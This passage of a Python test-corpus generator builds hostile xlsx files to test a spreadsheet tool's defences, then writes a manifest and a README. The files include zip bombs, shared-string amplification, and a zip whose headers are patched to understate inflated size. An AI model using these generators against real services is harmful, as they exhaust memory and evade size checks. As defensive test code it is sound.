            f'<worksheet xmlns="{MAIN_NS}"><sheetData>').encode() + inline_row(CUST_HEADERS)
    unit = inline_row([1000001, "Contoso Ltd", "c-1", "Bomb Customer", "Exchange Online", 1, "Paid", "DAP"])
    tail = b"</sheetData></worksheet>"
    path = os.path.join(OUT, "zip_bomb.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        workbook_shell(zf, ["Customers"], sst=False)

        def gen():
            yield head
            n_rows = rows_bytes // len(unit)
            yield from repeat(unit, n_rows * len(unit))
            yield from repeat(b" ", total - len(head) - n_rows * len(unit) - len(tail))
            yield tail
        stream_entry(zf, "xl/worksheets/sheet1.xml", gen())
    return meta

@case("huge_shared_strings", heavy=True)
def _():
    meta = [dict(file="huge_shared_strings.xlsx",
                 what="sharedStrings.xml inflates to 1.5 GiB (three 512 MiB strings), referenced 60,000 times as partner and customer names; calamine loads the whole table when the workbook opens",
                 expect="refused", message_contains="inflate")]
    if not WRITE_ENABLED:
        return meta
    n_strings, each = 3, 512 << 20  # 3 strings of 512 MiB: sharedStrings.xml inflates to 1.5 GiB
    path = os.path.join(OUT, "huge_shared_strings.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        workbook_shell(zf, ["Customers"], sst=True)
        rows = [inline_row(CUST_HEADERS)]
        for i in range(30000):
            rows.append(f'<row><c><v>1000001</v></c><c t="s"><v>{i % n_strings}</v></c>'
                        f'<c t="inlineStr"><is><t>c-{i}</t></is></c><c t="s"><v>{(i + 1) % n_strings}</v></c>'
                        f'<c t="inlineStr"><is><t>Exchange Online</t></is></c><c><v>1</v></c>'
                        f'<c t="inlineStr"><is><t>Paid</t></is></c><c t="inlineStr"><is><t>DAP</t></is></c></row>'
                        .encode())
        sheet = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 f'<worksheet xmlns="{MAIN_NS}"><sheetData>').encode() + b"".join(rows) + b"</sheetData></worksheet>"
        zf.writestr(zinfo("xl/worksheets/sheet1.xml"), sheet)

        def gen():
            yield (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                   f'<sst xmlns="{MAIN_NS}" count="60000" uniqueCount="{n_strings}">').encode()
            for k in range(n_strings):
                yield b"<si><t>"
                yield from repeat(b"ABCDEFGH"[k:k + 1] * 64, each)
                yield b"</t></si>"
            yield b"</sst>"
        stream_entry(zf, "xl/sharedStrings.xml", gen())
    return meta

@case("shared_strings_amplification", heavy=True)
def _():
    meta = [dict(file="shared_strings_amplification.xlsx",
                 what="Small and honest about sizes (4 MB of shared strings, ~5 MB of sheet XML) but four 1,000,000-character strings are used 40,000 times as partner and customer names: copied per cell that is 40 GB",
                 expect="survives",
                 note="Sizes pass any sane zip check, so the defence must be a cap on cell text length (Excel's own limit is 32,767 characters) or borrowing instead of copying. Any outcome (refused, or read with problems) passes as long as the process finishes normally with bounded memory.")]
    if not WRITE_ENABLED:
        return meta
    n_strings, each, n_rows = 4, 1_000_000, 20_000
    path = os.path.join(OUT, "shared_strings_amplification.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        workbook_shell(zf, ["Customers"], sst=True)

        def sheet_gen():
            yield (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                   f'<worksheet xmlns="{MAIN_NS}"><sheetData>').encode() + inline_row(CUST_HEADERS)
            for i in range(n_rows):
                yield (f'<row><c><v>1000001</v></c><c t="s"><v>{i % n_strings}</v></c>'
                       f'<c t="inlineStr"><is><t>c-{i}</t></is></c><c t="s"><v>{(i + 1) % n_strings}</v></c>'
                       f'<c t="inlineStr"><is><t>Exchange Online</t></is></c><c><v>1</v></c>'
                       f'<c t="inlineStr"><is><t>Paid</t></is></c><c t="inlineStr"><is><t>DAP</t></is></c></row>'
                       .encode())
            yield b"</sheetData></worksheet>"
        stream_entry(zf, "xl/worksheets/sheet1.xml", sheet_gen())

        def sst_gen():
            yield (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                   f'<sst xmlns="{MAIN_NS}" count="{2 * n_rows}" uniqueCount="{n_strings}">').encode()
            for k in range(n_strings):
                yield b"<si><t>"
                yield from repeat(b"WXYZ"[k:k + 1], each)
                yield b"</t></si>"
            yield b"</sst>"
        stream_entry(zf, "xl/sharedStrings.xml", sst_gen())
    return meta

@case("zip_bomb_lying_sizes", heavy=True)
def _():
    meta = [dict(file="zip_bomb_lying_sizes.xlsx",
                 what="sharedStrings.xml declares 2,048 bytes (local header and central directory) but inflates to 256 MiB: a size check on the directory alone passes it",
                 expect="refused",
                 note="zip 9.x stops reading past the declared size ('File is larger than its declared uncompressed size'), so calamine fails while opening and the file is refused. Any refusal message passes; reading a 256 MiB name does not.")]
    if not WRITE_ENABLED:
        return meta
    # sharedStrings.xml really inflates to 256 MiB but both zip headers declare 2,048 bytes.
    real = 256 << 20
    declared = 2048
    path = os.path.join(OUT, "zip_bomb_lying_sizes.xlsx")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        workbook_shell(zf, ["Customers"], sst=True)
        sh = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              f'<worksheet xmlns="{MAIN_NS}"><sheetData>').encode() + inline_row(CUST_HEADERS) + \
             b'<row><c><v>1000001</v></c><c t="s"><v>0</v></c></row></sheetData></worksheet>'
        zf.writestr(zinfo("xl/worksheets/sheet1.xml"), sh)

        def gen():
            yield (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                   f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>').encode()
            yield from repeat(b"L" * 64, real)
            yield b"</t></si></sst>"
        zi = zinfo("xl/sharedStrings.xml")
        with zf.open(zi, "w", force_zip64=False) as w:
            for ch in gen():
                w.write(ch)
    data = bytearray(buf.getvalue())
    # patch the uncompressed-size fields of the sharedStrings entry (local header and central directory)
    name = b"xl/sharedStrings.xml"
    patched = 0
    for sig, size_off, name_len_off, name_off in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        pos = 0
        while (pos := data.find(sig, pos)) >= 0:
            nlen = struct.unpack_from("<H", data, pos + name_len_off)[0]
            if data[pos + name_off: pos + name_off + nlen] == name:
                struct.pack_into("<I", data, pos + size_off, declared)
                patched += 1
            pos += 4
    assert patched == 2, patched
    with open(path, "wb") as f:
        f.write(data)
    return meta

# --------------------------------------------------------------------------- manifest

def toml_str(s: str) -> str:
    out = ['"']
    for ch in s:
        o = ord(ch)
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "\t":
            out.append("\\t")
        elif ch == "\n":
            out.append("\\n")
        elif o < 0x20 or o == 0x7F:
            out.append(f"\\u{o:04X}")
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def toml_val(v) -> str:
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        return toml_str(v)
    if isinstance(v, dict):
        return "{ " + ", ".join(f"{k} = {toml_val(x)}" for k, x in v.items()) + " }"
    if isinstance(v, list):
        if not v:
            return "[]"
        if all(isinstance(x, dict) for x in v) or len(v) > 3:
            return "[\n" + "".join(f"  {toml_val(x)},\n" for x in v) + "]"
        return "[" + ", ".join(toml_val(x) for x in v) + "]"
    raise TypeError(v)


MANIFEST_HEAD = """\
# Hostile and messy input corpus for competency-report. GENERATED by make_corpus.py: edit that
# script, not this file, then re-run it. Every file sits in tests/corpus/files/.
#
# How a harness reads one case: run the tool on that one file alone with --as-of 2017-09-30 (every
# date in the corpus is earlier); for expect = "skipped", copy the file AND valid_baseline.xlsx
# into an empty temporary folder and run the tool on the folder (a folder with no readable
# spreadsheet at all is exit code 2; a file named explicitly may reasonably be read).
#
# expect = "refused"  the file cannot be read: exactly one problem entry for this file (no sheet,
#                     no cell), whose message contains `message_contains` (case-insensitive) when
#                     that key is present. No partners come from it. The run ends normally: the
#                     report is written, with exit code 5 (no partner could be evaluated).
# expect = "skipped"  lock and hidden files: not opened at all. The run's partners and problems are
#                     exactly valid_baseline.xlsx's (a "skipped" note in the run info is fine).
# expect = "read"     `partners` is the exact set of partners found in the file, each with its id
#                     (normalised: digits only, no leading zeros), active_entitlements (users of
#                     the best counted workload over Paid + associated rows), qualified_people and
#                     level ("gold", "silver" or "none"); `name` when given must match exactly.
#                     `problems`: each entry must be matched by a different reported problem of
#                     this file (same sheet; same cell when given; message containing
#                     message_contains when given, case-insensitive). Problems WITH a cell address
#                     beyond the listed ones fail the case unless extra_problems_ok = true (so a
#                     case without `problems` must yield no cell problem at all). Problems without
#                     a cell (sheet or file notes) are free unless listed. A file that gives no
#                     partner at all ends with exit code 5, its report written.
#                     skipped_sheets: sheets that must be listed as skipped and not read.
#                     dates_passed: credential dates (ISO) the tool must have read (the report's
#                     People sheet shows them; the JSON summary does not).
#                     report_text: strings that must appear in the written report as string cells
#                     with exactly this value, never as formulas.
# expect = "survives" only that the process ends normally (exit 0, a report written) within the
#                     harness' time and memory limits; refusing the file or reading it with
#                     problems are both fine.
# args: extra command-line arguments for the run (e.g. --partner-id).
# A text file (.csv, .tsv) is one sheet without a name: its problems have sheet "" and the cell
# (or row) Excel shows when it opens the file. A case may be a folder (every file in it is read).
# note: why, and which expectations are design choices.
"""


def write_manifest(cases: list[dict]) -> None:
    order = ["file", "what", "expect", "args", "message_contains", "extra_problems_ok",
             "partners", "problems", "skipped_sheets", "dates_passed", "report_text", "note"]
    lines = [MANIFEST_HEAD]
    for c in cases:
        lines.append("\n[[case]]")
        for k in order:
            if k in c:
                lines.append(f"{k} = {toml_val(c[k])}")
        extra = set(c) - set(order)
        assert not extra, extra
    with open(MANIFEST, "w", encoding="utf-8") as f:
        f.write("\n".join(lines) + "\n")


README = os.path.join(HERE, "README.md")
BEGIN, END = "<!-- cases:begin (generated by make_corpus.py) -->", "<!-- cases:end -->"


def outcome(c: dict) -> str:
    e = c["expect"]
    if e == "refused":
        return "refused" + (f" (message contains \"{c['message_contains']}\")" if "message_contains" in c else "")
    if e in ("skipped", "survives"):
        return e
    parts = []
    ps = c.get("partners", [])
    parts.append("; ".join(f"{p['id']}: {p['active_entitlements']:,} users, {p['qualified_people']} qualified, "
                           f"{p['level']}" for p in ps) or "no partners")
    probs = c.get("problems", [])
    if probs:
        parts.append("problems at " + ", ".join(
            (f"{p['sheet']}!{p['cell']}" if p["sheet"] else f"row/cell {p['cell']}") if "cell" in p
            else f"{p['sheet']} ('{p.get('message_contains', '')}')"
            for p in probs))
    if c.get("skipped_sheets"):
        parts.append("skipped sheets: " + ", ".join(c["skipped_sheets"]))
    if c.get("extra_problems_ok"):
        parts.append("other problems allowed")
    return "read: " + "; ".join(parts)


def write_readme_table(cases: list[dict]) -> None:
    def cell(t: str) -> str:
        return t.replace("|", "\\|").replace("\n", " ")
    rows = ["| # | file | what it holds | expected outcome |", "| --- | --- | --- | --- |"]
    for i, c in enumerate(cases, 1):
        rows.append(f"| {i} | `{c['file']}` | {cell(c['what'])} | {cell(outcome(c))} |")
    text = open(README, encoding="utf-8").read()
    a, b = text.index(BEGIN) + len(BEGIN), text.index(END)
    text = text[:a] + "\n" + "\n".join(rows) + "\n" + text[b:]
    with open(README, "w", encoding="utf-8") as f:
        f.write(text)


def main() -> None:
    global ONLY
    os.makedirs(OUT, exist_ok=True)
    ONLY = sys.argv[1:]
    cases = []
    for name, fn in BUILDERS:
        print(f"  {name}{'' if wanted(name) else ' (manifest only)'}", file=sys.stderr)
        cases.extend(fn())
    write_manifest(cases)
    write_readme_table(cases)
    names = sorted(os.listdir(OUT))
    listed = sorted(c["file"] for c in cases)
    if not ONLY:
        assert names == listed, (set(names) ^ set(listed))
    total = sum(os.path.getsize(os.path.join(OUT, f)) for f in names)
    print(f"{len(cases)} cases, {total / 1e6:.2f} MB in {OUT}", file=sys.stderr)

if __name__ == "__main__":
    main()
